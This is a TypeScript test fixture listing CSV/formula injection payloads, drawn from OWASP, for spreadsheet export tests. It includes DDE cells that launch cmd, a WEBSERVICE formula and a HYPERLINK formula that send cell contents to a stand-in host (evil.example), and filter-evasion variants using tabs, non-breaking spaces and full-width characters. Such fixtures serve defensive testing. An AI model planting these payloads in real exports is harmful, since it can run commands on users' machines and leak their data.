// Hostile spreadsheet cells for the export tests.

/** The payloads of https://owasp.org/www-community/attacks/CSV_Injection, and their usual disguises. */
export const FORMULA_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  '+1+WEBSERVICE("http://x/?"&A2)',
  "+ 1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")',
  "\t=1+1",
  "\r=1+1",
  "\tcmd",
  "\rcmd",
  "   =1+1",
  "  @SUM(A1)",
  " -2+3",
  "\u00a0=1+1",
  "\uff1dcmd|' /C calc'!A0",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(1+1)",
  "+1 415 555 0100 =cmd|' /C calc'!A0",
  "+44 20 7946 0958\t=1+1",
];
